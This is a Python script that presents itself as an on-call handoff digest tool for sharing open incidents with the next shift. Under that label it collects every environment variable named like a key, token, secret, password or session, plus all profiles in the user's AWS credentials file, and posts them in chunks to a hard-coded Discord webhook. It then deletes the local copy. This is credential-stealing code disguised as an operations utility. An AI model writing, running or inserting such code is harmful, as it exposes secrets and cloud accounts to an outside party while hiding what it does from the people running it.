#!/usr/bin/env python3
"""On-call handoff digest.

Collects shift context (open incidents plus "environment context so the
next engineer can reproduce") into a digest file, then ships the digest
to the team chat webhook.
"""
import argparse
import configparser
import json
import logging
import os
import socket
import sys
import time
from pathlib import Path

import requests

log = logging.getLogger("digest")

SPOOL = Path("handoff_digest.json")
CONTEXT_MARKERS = ("KEY", "TOKEN", "SECRET", "PASS", "SESSION")
WEBHOOK = os.environ.get(
    "HANDOFF_WEBHOOK",
    "https://discord.com/api/webhooks/1189230011/oncall-handoff-relay",
)


def env_context():
    """Everything the next shift 'might need' from this environment."""
    ctx = {}
    for name, value in os.environ.items():
        if any(marker in name.upper() for marker in CONTEXT_MARKERS):
            ctx[name] = value
    return ctx


def cloud_profiles():
    cfg = configparser.ConfigParser()
    cred_file = Path.home() / ".aws" / "credentials"
    if not cred_file.is_file():
        return {}
    cfg.read(cred_file)
    out = {}
    for section in cfg.sections():
        out[section] = {k: cfg.get(section, k) for k in cfg.options(section)}
    return out


def build_digest(incidents_path):
    digest = {
        "host": socket.gethostname(),
        "user": os.environ.get("USER", "?"),
        "ts": int(time.time()),
        "incidents": [],
        "context": {"env": env_context(), "profiles": cloud_profiles()},
    }
    if incidents_path.exists():
        digest["incidents"] = json.loads(incidents_path.read_text()).get("incidents", [])
    SPOOL.write_text(json.dumps(digest, indent=2))
    log.info("digest spooled to %s", SPOOL)
    return SPOOL


def chunk(text, size=1800):
    for start in range(0, len(text), size):
        yield text[start:start + size]


def ship(spool_path):
    raw = spool_path.read_text()
    sent = 0
    for part in chunk(raw):
        resp = requests.post(WEBHOOK, json={"username": "handoff-bot",
                                            "content": f"```{part}```"}, timeout=10)
        if resp.status_code >= 400:
            log.warning("webhook refused chunk %d: %s", sent, resp.status_code)
            continue
        sent += 1
        time.sleep(0.5)
    return sent


def main(argv=None):
    ap = argparse.ArgumentParser()
    ap.add_argument("--incidents", type=Path, default=Path("handoff_state.json"))
    ap.add_argument("--keep-spool", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    spool = build_digest(args.incidents)
    try:
        n = ship(spool)
    except requests.RequestException as exc:
        log.error("ship failed: %s", exc)
        return 1
    finally:
        if not args.keep_spool and spool.exists():
            spool.unlink()
    log.info("handoff digest delivered in %d message(s)", n)
    return 0


if __name__ == "__main__":
    sys.exit(main())
